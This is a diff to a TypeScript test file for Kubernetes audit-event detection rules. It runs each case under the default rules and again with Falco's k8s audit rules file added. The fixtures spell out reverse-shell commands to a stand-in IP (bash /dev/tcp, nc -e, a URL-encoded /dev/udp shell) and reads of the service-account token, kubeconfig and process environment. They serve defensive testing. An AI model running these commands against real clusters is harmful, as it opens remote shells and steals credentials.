@@ -7,6 +7,7 @@ import {
   auditEvent,
   binding,
   defaultRulesetAllEnabled,
+  falcoRulesFile,
   execQuery,
   podSpec,
   role,
@@ -945,6 +946,18 @@ const CASES: Case[] = [
       'bash -i >& /dev/tcp': () =>
         exec(['bash', '-c', 'bash -i >& /dev/tcp/198.51.100.9/4444 0>&1']),
       'nc -e': () => exec(['nc', '-e', '/bin/sh', '198.51.100.9', '4444']),
+      'encoded with %20 (a client using encodeURIComponent)': () =>
+        auditEvent({
+          verb: 'get',
+          resource: 'pods',
+          subresource: 'exec',
+          namespace: 'shop',
+          name: 'api-1',
+          query: ['sh', '-c', 'sh -i >& /dev/udp/198.51.100.9/53 0>&1']
+            .map((a) => `command=${encodeURIComponent(a)}`)
+            .concat(['stdout=1', 'stderr=1'])
+            .join('&'),
+        }),
       'python pty': () =>
         exec([
           'python3',
@@ -973,6 +986,11 @@ const CASES: Case[] = [
     fires: {
       'service-account token': () =>
         exec(['cat', '/var/run/secrets/kubernetes.io/serviceaccount/token']),
+      'token, refused (the attempt counts)': () =>
+        exec(['cat', '/run/secrets/kubernetes.io/serviceaccount/token'], {
+          code: 403,
+          stage: 'ResponseComplete',
+        }),
       kubeconfig: () => exec(['sh', '-c', 'cat ~/.kube/config']),
       'process environment': () => exec(['cat', '/proc/1/environ']),
     },
@@ -1322,16 +1340,27 @@ const ruleset = defaultRulesetAllEnabled();
 const matches = (event: Json): string[] =>
   ruleset.evaluate({ event, cluster: 'prod' }).map((r) => r.name);
 
+// A user who adds Falco's own k8saudit file (RULES_FILES) redefines macros of the same name
+// (kevt, pod, secret, node, response_successful, ...): ours must behave the same under theirs.
+const withFalcosFile = defaultRulesetAllEnabled([falcoRulesFile()]);
+
 beforeAll(async () => {
   corpus = await loadCorpus();
 });
 
-describe.each(CASES)('$rule', ({ rule, fires, misses }) => {
-  it.each(Object.entries(fires))('fires: %s', (_label, make) => {
-    expect(matches(make())).toContain(rule);
-  });
-  it.each(Object.entries(misses))('does not fire: %s', (_label, make) => {
-    expect(matches(make())).not.toContain(rule);
+describe.each([
+  ['default rules', ruleset],
+  ["default rules + Falco's k8s_audit_rules.yaml", withFalcosFile],
+] as const)('%s', (_label, rules) => {
+  const names = (event: Json): string[] =>
+    rules.evaluate({ event, cluster: 'prod' }).map((r) => r.name);
+  describe.each(CASES)('$rule', ({ rule, fires, misses }) => {
+    it.each(Object.entries(fires))('fires: %s', (_l, make) => {
+      expect(names(make())).toContain(rule);
+    });
+    it.each(Object.entries(misses))('does not fire: %s', (_l, make) => {
+      expect(names(make())).not.toContain(rule);
+    });
   });
 });
 
